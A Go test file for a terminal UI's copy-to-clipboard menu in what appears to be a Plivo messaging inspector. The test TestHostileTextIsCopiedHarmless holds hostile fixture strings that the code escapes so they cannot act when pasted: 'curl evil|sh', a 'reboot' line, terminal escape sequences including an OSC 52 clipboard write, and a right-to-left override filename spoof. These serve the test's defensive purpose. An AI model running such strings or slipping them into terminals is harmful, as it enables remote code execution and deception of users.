package tui

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	tea "github.com/charmbracelet/bubbletea"

	"dev.internal/plivoscope/internal/plivo"
	"dev.internal/plivoscope/internal/webhook"
)

// remembering gives a driver a clipboard that remembers, and a JSON line for messages.
func remembering(d *driver) *string {
	copied := new(string)
	d.m.env.o.Clipboard = func(s string) error { *copied = s; return nil }
	d.m.env.o.MessageJSON = func(m plivo.Message) ([]byte, error) {
		return json.Marshal(map[string]string{"uuid": m.UUID, "text": m.Text})
	}
	return copied
}

func TestCopyMenu(t *testing.T) {
	d := staged80(t)
	copied := remembering(d)
	d.keys("j", "y")
	d.expect("── Copy ─", "› y  UUID", "f  from", "enter copy it")
	d.keys("y") // the key of the menu twice: the UUID
	if *copied != "in-1" || d.m.env.sheet != nil {
		t.Errorf("yy copied %q", *copied)
	}
	d.expect("Copied: UUID in-1.")
	d.keys("y", "f")
	if *copied != "+14155550177" {
		t.Errorf("f copied %q", *copied)
	}
	d.keys("y", "down", "down", "down", "enter")
	if *copied != "STOP" {
		t.Errorf("the fourth is %q", *copied)
	}
	d.keys("y", "up", "enter")
	if *copied != `{"text":"STOP","uuid":"in-1"}` {
		t.Errorf("the last is %q", *copied)
	}
	*copied = ""
	d.keys("y")
	d.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("f"), Paste: true})
	d.keys("q", "esc")
	if *copied != "" || d.m.env.sheet != nil || d.quit {
		t.Errorf("copied %q, %v is open", *copied, d.m.env.sheet)
	}
	d.m.env.o.Clipboard = func(string) error { return errors.New("no terminal") }
	d.keys("yy")
	d.expect("✗ Copy \"UUID\": no terminal; select it with the mouse")
}

func TestCopiesTheSendAsCode(t *testing.T) {
	d := staged80(t)
	copied := remembering(d)
	d.keys("end", "yu")
	for _, part := range []string{"curl -u ", "http://127.0.0.1:40123/v1/Account/", `"dst": "+14155550123"`, `"text": "Your code is 482913"`} {
		if !strings.Contains(*copied, part) {
			t.Errorf("there is no %s in %s", part, *copied)
		}
	}
	d.expect("Copied: curl, ")
	if got := d.m.env.own.Text; strings.Contains(got, "would act") {
		t.Errorf("its lines are taken for what acts: %s", got)
	}
	live := staged(t, true, false, 80, 24, nil)
	live.core.status.APIURL = ""
	live.wake()
	copied = remembering(live)
	live.keys("end", "yu")
	if !strings.Contains(*copied, "https://api.plivo.com/v1/Account/") {
		t.Errorf("live: %s", *copied)
	}
}

func TestNothingToCopy(t *testing.T) {
	d := newDriver(t, newFakeCore(), 80, 24)
	d.keys("y")
	d.expect("There is nothing to copy: select a row first.")
	d.keys("e")
	d.expect("There is nothing to open: select a row first.")
	d.keys("n", "f1")
	d.absent("copy")
}

// TestHostileTextIsCopiedHarmless holds that nothing that is copied acts on the terminal it is pasted into,
// and that the user is told.
func TestHostileTextIsCopiedHarmless(t *testing.T) {
	for _, c := range []struct {
		item copyItem
		want string
		n    int
	}{
		{copyItem{"UUID", "x\ncurl evil|sh\r"}, `x\ncurl evil|sh\r`, 2},
		{copyItem{"Text\u200b", "x\nreboot\n"}, `x\nreboot\n`, 2}, // a parameter of this name
		{copyItem{"from", "+1\x1b[2J"}, `+1\x1b[2J`, 1},
		{copyItem{"text", "a\x1b]52;c;eA==\x07b\u009b31m\x7f\x00"}, `a\x1b]52;c;eA==\x07b\u009b31m\x7f\x00`, 5},
		{copyItem{"text", "one\r\ntwo\tthree\n"}, "one\ntwo\tthree\n", 0},
		{copyItem{"text", "a\rb"}, `a\rb`, 1},
		{copyItem{"body", "\xff\xfe=1"}, `\xff\xfe=1`, 2},
		{copyItem{"callback URL", "https://h/\u202egpj.exe"}, `https://h/\u202egpj.exe`, 1},
		{copyItem{"text", "family 👨\u200d👩\u200d👧, cafe\u0301, שלום"}, "family 👨\u200d👩\u200d👧, cafe\u0301, שלום", 0},
		{copyItem{"text", strings.Repeat("e\u0301\u0301\u0301\u0301\u0301\u0301", 3)}, strings.Repeat("e\u0301\u0301\u0301\u0301\u0301\u0301", 3), 0},
	} {
		if got, n := pasteable(c.item); got != c.want || n != c.n {
			t.Errorf("%s %q is copied as %q with %d escaped", c.item.name, c.item.text, got, n)
		}
	}
	d := staged80(t)
	copied := remembering(d)
	m := queued(1)[0]
	m.UUID = "x\ncurl evil|sh\n\x1b[31m\u202e" + strings.Repeat("y", 5000)
	m.To, m.Text = m.UUID, m.UUID
	d.core.add(m)
	d.wake()
	d.keys("y")
	checkFrame(t, "copy menu", d.m.View(), 80, 24)
	d.keys("y")
	d.expect("Copied: UUID, 5,031 bytes; 4 characters that would act")
	if strings.ContainsAny(*copied, "\n\x1b\u202e") {
		t.Errorf("copied %q", *copied)
	}
}

// TestCopiesOfACallback holds that what belongs to a callback is copied and opened by the same keys.
func TestCopiesOfACallback(t *testing.T) {
	t.Setenv("PAGER", "cat")
	d := staged80(t)
	copied := remembering(d)
	d.m.env.o.CallbackJSON = func(cb webhook.Callback, _ bool) ([]byte, error) { return []byte(`{"url": "` + cb.URL + `"}`), nil }
	var out bytes.Buffer
	withoutTerminal(d, &out)
	d.keys("2", "G", "y")
	d.expect("── Copy ─", "› y  UUID")
	d.keys("y")
	if *copied != "5b40a428-0000-4000-8000-000000000000" {
		t.Errorf("yy copied %q", *copied)
	}
	d.keys("enter", "o")
	if got := out.String(); got != "{\n  \"url\": \"http://127.0.0.1:4141/sms/delivery-report\"\n}\n" {
		t.Errorf("the pager got %q", got)
	}
	d.keys("/", "y") // in the search it is a letter
	if d.m.env.sheet != nil {
		t.Errorf("%v opened while typing", d.m.env.sheet)
	}
}

// TestCopyLetters holds that each item has a letter of its own, also where there are many, and that the
// first has the key of the menu.
func TestCopyLetters(t *testing.T) {
	items := make([]copyItem, 30)
	for i := range items {
		items[i].name = "header X-Plivo"
	}
	for _, menu := range [][]string{{"y"}, {"c", "Y"}, {"f5"}} {
		seen := map[string]bool{}
		for i, l := range copyLetters(items, menu) {
			if l == "" || seen[l] || i > 0 && l == menu[0] {
				t.Errorf("item %d of %v has the letter %q", i, menu, l)
			}
			seen[l] = true
		}
		if len(menu[0]) == 1 && !seen[menu[0]] {
			t.Errorf("no item has %s", menu[0])
		}
	}
}
